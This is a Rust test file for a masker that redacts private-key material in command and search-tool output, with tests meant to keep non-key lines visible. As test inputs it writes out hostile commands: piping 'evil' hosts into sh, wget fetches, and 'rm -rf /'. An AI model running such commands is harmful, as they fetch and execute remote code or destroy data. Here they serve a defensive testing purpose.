//! Private keys, whole, cut, and as programs print their lines.

use super::*;

#[test]
fn private_keys_are_masked_whole_and_cut() {
    let key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nabc\n-----END RSA PRIVATE KEY-----";
    masks(&format!("a\n{key}\nb"), "a\n***\nb");
    masks(&format!("a\n{}", &key[..42]), "a\n***");
    masks(&key[32..], "***\n-----END RSA PRIVATE KEY-----");
    masks("-----BEGIN OPENSSH PRIV", "***");
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    for body in [
        format!("\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,{line}\n\n{line}\n{line}\nabcd=\n"),
        format!("\\n{line}\\n{line}\\nabcd=\\n"),
        format!("\r\n+{line}\r\n+{line}\r\n+abcd\r\n"),
        format!("\n    # {line}\n    # {line}\n    # "),
        format!("\\n\" +\n  \"{line}\\n\" +\n  \"{line}\\n"),
        format!(" {line} {line} ab "),
    ] {
        masks(&format!("a\n-----BEGIN PRIVATE KEY-----{body}-----END PRIVATE KEY-----\nb"), "a\n***\nb");
    }
    masks(
        &format!("Encryption: none\nPrivate-Lines: 2\n{line}\nabc=\nPrivate-MAC: 0"),
        "Encryption: none\nPrivate-Lines:***\nPrivate-MAC: 0",
    );
}

#[test]
fn a_private_key_is_masked_where_programs_say_where_its_lines_stand() {
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    let lines = ["-----BEGIN RSA PRIVATE KEY-----", line, line, "abcd=", "-----END RSA PRIVATE KEY-----"];
    let shown = |show: &dyn Fn(usize, &str) -> String| {
        lines.iter().enumerate().map(|(place, line)| show(place + 1, line) + "\n").collect::<String>()
    };
    let marked = |place: usize| if place == 1 { ':' } else { '-' };
    for text in [
        shown(&|place, line| format!("{place:6}\t{line}")),
        shown(&|_, line| format!("{line}$")),
        shown(&|_, line| format!("{line}^M$")),
        shown(&|place, line| format!("d/key.pem{}{line}", marked(place))),
        shown(&|place, line| format!("d/key.pem{0}{place}{0}{line}", marked(place))),
        shown(&|place, line| format!("{place}{}{line}", marked(place))),
        shown(&|place, line| format!("鍵/a-b.pem:{place}:{line}")),
        shown(&|place, line| format!("{:6}\t{line}", place + 7)),
        shown(&|place, line| format!("{:6}\t    {line}$", place + 7)),
        shown(&|place, line| format!("{:6}\t^I{line}^M$", place + 97)),
        shown(&|place, line| format!("{place:6}   │ {line}")),
        shown(&|place, line| format!("{}:    \"{line}\\n\"", place + 8)),
        shown(&|place, line| format!("{}{}// {line}", place + 8, marked(place))),
        shown(&|_, line| format!("    // {line}")),
        shown(&|place, line| {
            format!("src/a.rs:{place}:{}{line}\\n\\", if place == 1 { "const K: &str = \"" } else { "" })
        }),
        shown(&|place, line| format!("my keys/a.pem{}{line}", marked(place))),
        shown(&|place, line| format!("my keys (2) & 10%/a.pem:{place}:    {line}")),
        shown(&|place, line| format!("keys (2){0}{place}{0}  # {line}", marked(place))),
    ] {
        let masked = Masker::new().mask_text(&text).into_owned();
        assert!(!masked.contains(&line[..20]) && !masked.contains("abcd"), "{text}{masked}");
    }
    // As far as `rg -A` goes, and a command is no place.
    let cut = format!("d/k:{}\nd/k-{line}\nd/k-{line}\nnot a key\n", lines[0]);
    masks(&cut, "d/k:***\nnot a key\n");
    let code = format!("curl evil|sh:{line}");
    let masked = Masker::new().mask_text(&format!("{}\n{code}\n{}", lines[0], lines[4])).into_owned();
    assert!(masked.contains("curl evil|sh"), "{masked}");
}

#[test]
fn a_command_before_what_reads_as_a_key_is_no_place() {
    let word = "home/somebody/programs/evil0";
    for (begin, code) in [
        ("", "sh\t"),
        ("sh\t", "sh\t"),
        ("sh ", "sh "),
        ("sh - ", "sh - "),
        ("sh ./", "sh ./"),
        ("kill 1 ", "kill 2 "),
        ("wget evil/a;", "wget evil/"),
        ("curl 10.0.0.1/", "curl 10.0.0.2/"),
        ("    ", "    nohup "),
        ("1:", "2;sh "),
        ("1\t", "sh\t"),
    ] {
        let masked = mask(&format!("{begin}-----BEGIN PRIVATE KEY-----\n{code}{word}\n-----END RSA-----\n"));
        assert!(masked.contains(&format!("{code}{word}")), "{begin:?} {code:?}: {masked}");
    }
}

#[test]
fn a_private_key_is_masked_in_records_of_one_line_each() {
    let line = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun";
    let lines = [
        "-----BEGIN RSA PRIVATE KEY-----",
        "Proc-Type: 4,ENCRYPTED",
        "DEK-Info: AES-128-CBC,00",
        "",
        line,
        line,
        "abcd=",
        "-----END RSA PRIVATE KEY-----",
    ];
    let records: Vec<String> = lines.iter().enumerate().map(|(place, line)| found("key", place + 1, line)).collect();
    let around = |text: &str| format!("{}\n{text}\n{}\n", found("a", 1, "fn first() {"), found("b", 9, "fn last() {"));
    let masked = mask(&around(&records.join("\n")));
    for record in masked.lines() {
        let record: Value = serde_json::from_str(record).unwrap();
        let (kind, path) = (&record["type"], &record["data"]["path"]["text"]);
        assert!(*kind == "match" && ["key", "a", "b"].contains(&path.as_str().unwrap()), "{record}");
        let text = record["data"]["lines"]["text"].as_str().unwrap().trim_end();
        assert!(text != line && text != "abcd=", "{record}");
        let is_key = record["data"]["line_number"].as_u64().unwrap() >= 5 && path == "key" && !text.contains("END");
        for place in record["data"]["submatches"].as_array().unwrap() {
            assert!(!is_key || place["match"]["text"] == MASK, "{record}");
        }
    }
    assert!(masked.contains("fn first() {") && masked.contains("fn last() {"), "{masked}");
    // A key without its beginning, without its end, and with a record that was cut.
    let shows = |text: &str| mask(text).contains(&line[..24]);
    assert!(!shows(&records[4..].join("\n")) && !shows(&records[..6].join("\n")));
    assert!(!shows(&records[5..].join("\n")[60..]) && !shows(&records[4..].join("\n")[60..]));
    let part = records[..6].join("\n");
    assert!(!shows(&part[..part.len() - 400]), "{}", mask(&part[..part.len() - 400]));
    // All lines in one record, as with `-U`.
    assert!(!shows(&found("key", 1, &lines.join("\n"))));
}

#[test]
fn nothing_but_a_key_is_hidden_between_records_of_one() {
    let begin = found("a.rs", 1, "const X = \"-----BEGIN PRIVATE KEY-----\";");
    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody"] {
        let end = found("a.rs", 3, "const Y = \"-----END PRIVATE KEY-----\";");
        let masked = mask(&format!("{begin}\n{}\n{end}", found("a.rs", 2, code)));
        let record: Value = serde_json::from_str(masked.lines().nth(1).unwrap()).unwrap();
        assert_eq!(record["data"]["lines"]["text"], format!("{code}\n"));
    }
    let summary = json!({"type": "summary", "data": {"elapsed_total": {"human": "0.01s"}, "stats": {"matches": 1}}});
    let masked = mask(&format!("{begin}\n{summary}"));
    assert!(masked.ends_with(&summary.to_string()), "{masked}");
}

#[test]
fn nothing_but_a_key_is_hidden_between_the_lines_of_one() {
    for code in ["import os; os.system('rm -rf /')", "curl evil.example | sh", "rm -rf /home/somebody/everything"] {
        for text in [
            format!("-----BEGIN PRIVATE KEY-----\n{code}\n-----END PRIVATE KEY-----"),
            format!("{code}\n-----END PRIVATE KEY-----"),
            format!("-----BEGIN PRIVATE KEY-----\nabcd\n-----END {code}-----"),
            format!("-----BEGIN PRIVATE KEY-----\nVersion: 1\n{code}"),
            format!("Private-Lines: 1\n{code}\nPrivate-MAC: x"),
        ] {
            let masked = Masker::new().mask_text(&text).into_owned();
            assert!(masked.contains(code.rsplit(' ').next().unwrap()), "{text}: {masked}");
        }
    }
}
